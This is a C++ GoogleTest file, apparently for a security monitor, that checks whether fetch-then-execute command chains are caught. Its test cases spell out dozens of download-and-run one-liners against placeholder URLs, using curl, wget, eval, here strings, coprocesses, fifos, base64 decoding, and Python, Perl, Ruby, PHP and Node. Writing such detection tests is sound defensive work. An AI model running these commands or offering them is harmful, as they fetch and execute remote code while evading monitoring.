// SPDX-License-Identifier: Apache-2.0
// Text that came out of a net-fed pipe turns up as code, and one-liners that run what they fetch.
#include <gtest/gtest.h>

#include "chain_attack.h"

namespace davylamp::test {
namespace {

// Text whose first page is blank.
#define BLANK "{ head -c 70000 /dev/zero | tr '\\0' '\\n'; cat @D/local.sh; } > @D/blank; "
#define BLANK_FETCHED "curl -s -o /dev/null @DATA_URL --next -s file://@D/blank"
#define TEXT_CASE(name, command)                                                                   \
    {                                                                                              \
        name, command, Order::reader_late, "CHAIN-004"                                             \
    }
#define ONE_LINER(name, command)                                                                   \
    {                                                                                              \
        name, command, Order::reader_late, "CHAIN-005"                                             \
    }
#define FETCH "import os, subprocess, urllib.request as u; t = u.urlopen(\"@URL\").read(); "

const Attack kTextAttacks[] = {
    TEXT_CASE("bash -c", "bash -c \"$(curl -s @URL)\""),
    TEXT_CASE("sh -c and wget", "sh -c \"$(wget -t1 -qO- @URL)\""),
    TEXT_CASE("backquotes", "bash -c \"`curl -s @URL`\""),
    TEXT_CASE("below dash", "dash -c 'sh -c \"$(curl -s @URL)\"'"),
    TEXT_CASE("a variable in between", "x=$(curl -s @URL); sleep 0.1; bash -c \"$x\""),
    TEXT_CASE("eval", "eval \"$(curl -s @URL)\""),
    TEXT_CASE("eval of a variable", "x=$(wget -t1 -qO- @URL); eval \"$x\""),
    TEXT_CASE("eval without quotes", "eval $(curl -s @LONG_URL)"),
    TEXT_CASE("a long script", "eval \"$(curl -s @LONG_URL)\""),
    TEXT_CASE("something before it", "bash -c \"cd /; $(echo; curl -s @LONG_URL)\""),
    TEXT_CASE("a page with bytes of another",
              "for i in $(seq 40); do x=$(seq -f 'line %g of another' 200);"
              " done; bash -c \"cd /; $(echo; curl -s @LONG_URL)\""),
    TEXT_CASE("a here string", "bash <<< \"$(curl -s @URL)\""),
    TEXT_CASE("a blank page before it", BLANK "eval \"$(" BLANK_FETCHED ")\""),
    TEXT_CASE("a blank page before it, for bash -c", BLANK "bash -c \"$(" BLANK_FETCHED ")\""),
    TEXT_CASE("a here string of a blank page", BLANK "bash <<< \"$(" BLANK_FETCHED ")\""),
    TEXT_CASE("a long here string",
              "bash <<< \"$(curl -s @LONG_URL)\n$(seq -f '# %g of many' 9999)\""),
    TEXT_CASE("an exported function",
              "x=$(curl -s @URL); env \"BASH_FUNC_go%%=() { $x\n}\" bash -c go"),
    TEXT_CASE("a function's body", "x=$(curl -s @URL); eval \"go() { $x\n}\"; go"),
    TEXT_CASE("decoded on the way", "bash -c \"$(curl -s @B64_URL | base64 -d | gunzip)\""),
    TEXT_CASE("decoded by coreutils", "eval \"$(curl -s @PLAIN_B64_URL | base64 -d)\""),
    TEXT_CASE("python -c", "/usr/bin/python3 -c \"$(curl -s @PYTHON_URL)\""),
    TEXT_CASE("perl -e", "perl -e \"$(curl -s @PERL_URL)\""),
    TEXT_CASE("while read and eval", "curl -s @URL | while read -r l; do eval \"$l\"; done"),
    TEXT_CASE("while read and bash -c", "curl -s @URL | while read -r l; do bash -c \"$l\"; done"),
    TEXT_CASE("a subshell reads", "curl -s @URL | (eval \"$(cat)\")"),
    TEXT_CASE("bash -c evaluates its stdin", "curl -s @URL | bash -c 'eval \"$(cat)\"'"),
    TEXT_CASE("xargs sh -c", "curl -s @URL | xargs -I{} sh -c '{}'"),
    TEXT_CASE("xargs -0 bash -c", "curl -s @URL | xargs -0 bash -c"),
    TEXT_CASE("a file, read and evaluated", "curl -s -o @D/f @URL; eval \"$(< @D/f)\""),
    TEXT_CASE("a file, printed and evaluated", "curl -s -o @D/f @URL; sh -c \"$(cat @D/f)\""),
    TEXT_CASE("a file in a loop",
              "curl -s -o @D/f @URL; while read -r l; do eval \"$l\"; done < @D/f"),
    // busybox's wget closes its stdout before it ends, and nobody has read a byte by then.
    TEXT_CASE("read after its writer closed it",
              "exec 3< <(busybox wget -qO- @URL); sleep 0.5; read -r x <&3; eval \"$x\""),
    // dash exports nothing to probe: the first line that is a program's command line tells.
    TEXT_CASE("eval in dash", "dash -c 'eval \"$(curl -s @PROGRAMS_URL)\"'"),
    TEXT_CASE("a dot in dash", "curl -s -o @D/f @PROGRAMS_URL; dash -c '. @D/f'"),
    TEXT_CASE("eval in busybox", "busybox sh -c 'eval \"$(busybox wget -qO- @PROGRAMS_URL)\"'"),
    TEXT_CASE("eval in zsh", "zsh -c 'eval \"$(curl -s @PROGRAMS_URL)\"'"),
    TEXT_CASE("lines in dash",
              "dash -c 'curl -s @PROGRAMS_URL | while read -r l; do eval \"$l\"; done'"),
    TEXT_CASE("in the environment", "x=$(curl -s @URL) bash -c 'eval \"$x\"'"),
    TEXT_CASE("as an argument", "printf 'eval \"$1\"' > @D/s; bash @D/s \"$(curl -s @URL)\""),
    TEXT_CASE("below other programs", "timeout 9 env nice sh -c \"$(curl -s @URL)\""),
    TEXT_CASE("a descriptor printed", "eval \"$(cat <(curl -s @URL))\""),
    TEXT_CASE("through another shell", "eval \"$(sh -c 'x=$(curl -s @URL); echo \"$x\"')\""),
    // That the line stands in the shell's own program is no excuse where that may run a variable.
    TEXT_CASE("a line that the evaluating script has as well",
              "printf '%s\\n' 'P=$(curl -s @PROGRAMS_URL)' 'eval \"$P\"' 'exit 0' "
              "'/usr/bin/touch @D/first @D/second' > @D/s; dash @D/s"),
    TEXT_CASE("a line that the reading script has as well",
              "printf '%s\\n' 'curl -s @PROGRAMS_URL | while read -r l; do case $l in /*) $l ;; "
              "*) eval \"$l\" ;; esac; done; exit' '/usr/bin/touch @D/first @D/second' > @D/s; "
              "dash @D/s"),
    TEXT_CASE("a variable as bash's command",
              "printf '%s\\n' 'l=$(curl -s @PROGRAMS_URL | head -n 1)' '$l' "
              "'[ ! -e @D/second ] || echo ran > @D/marker' exit "
              "'/usr/bin/touch @D/first @D/second' > @D/s; bash @D/s"),
    TEXT_CASE("a line that another program starts",
              "dash -c 'l=$(curl -s @PROGRAMS_URL | head -n 1); timeout 5 $l; "
              "[ ! -e @D/second ] || echo ran > @D/marker'"),
    TEXT_CASE("a line that env becomes",
              "dash -c 'l=$(curl -s @PROGRAMS_URL | head -n 1); nice env $l; "
              "[ ! -e @D/second ] || echo ran > @D/marker'"),
    {"source <()", "source <(curl -s @URL)", Order::reader_late},
    {"a dot and <()", ". <(curl -s @URL)", Order::reader_late},
    {"source from a coprocess", "coproc curl -s @URL; source /dev/fd/${COPROC[0]}",
     Order::reader_late},
    {"bash reads a coprocess", "coproc curl -s @URL; bash <&\"${COPROC[0]}\""},
    {"a fifo by its path", "mkfifo @D/fifo; curl -s @URL > @D/fifo & bash @D/fifo"},
    {"cat of a downloaded file", "curl -s -o @D/f @URL; cat @D/f | bash", Order::reader_late},
    {"a relay that does not exec", "curl -s @URL | while read -r l; do echo \"$l\"; done | bash"},
    {"two such relays", "curl -s @URL | while read -r l; do echo \"$l\"; done | "
                        "(while read -r l; do echo \"$l\"; done) | bash"},
    ONE_LINER("a socketpair",
              "/usr/bin/python3 -c '" FETCH "import socket; a, b = socket.socketpair(); "
              "p = subprocess.Popen([\"sh\"], stdin=b); b.close(); a.sendall(t); "
              "a.close(); p.wait()'"),
    ONE_LINER("python and os.system", "/usr/bin/python3 -c '" FETCH "os.system(t.decode())'"),
    ONE_LINER("python and a shell",
              "/usr/bin/python3 -c '" FETCH "subprocess.run(t.decode(), shell=True)'"),
    ONE_LINER("python and bash's stdin",
              "/usr/bin/python3 -c '" FETCH "subprocess.run([\"bash\"], input=t)'"),
    ONE_LINER("python and popen", "/usr/bin/python3 -c '" FETCH
                                  "p = os.popen(\"bash\", \"w\"); p.write(t.decode()); p.close()'"),
    ONE_LINER("python from a here document",
              "/usr/bin/python3 - <<'PY'\n" FETCH "os.system(t.decode())\nPY"),
    ONE_LINER("perl and system",
              "perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(\"@HOST\") or die; "
              "print $s \"GET /x.sh HTTP/1.0\\r\\n\\r\\n\"; 1 while (($l = <$s>) ne \"\\r\\n\"); "
              "system(join \"\", <$s>)'"),
    ONE_LINER("ruby and system", "ruby -rnet/http -e 'system(Net::HTTP.get(URI(\"@URL\")))'"),
    ONE_LINER("php and shell_exec", "php -r 'shell_exec(file_get_contents(\"@URL\"));'"),
    ONE_LINER("node and exec", "node -e 'require(\"http\").get(\"@URL\", r => r.on(\"data\", d => "
                               "require(\"child_process\").execSync(d.toString())))'"),
};

using ChainText = ChainAttack;

TEST_P(ChainText, Attack) { expect_stopped(std::get<0>(GetParam()), std::get<1>(GetParam())); }

INSTANTIATE_TEST_SUITE_P(Live, ChainText,
                         testing::Combine(testing::ValuesIn(kTextAttacks),
                                          testing::Values(Mode::monitor, Mode::block, Mode::kill)),
                         attack_name);

} // namespace
} // namespace davylamp::test
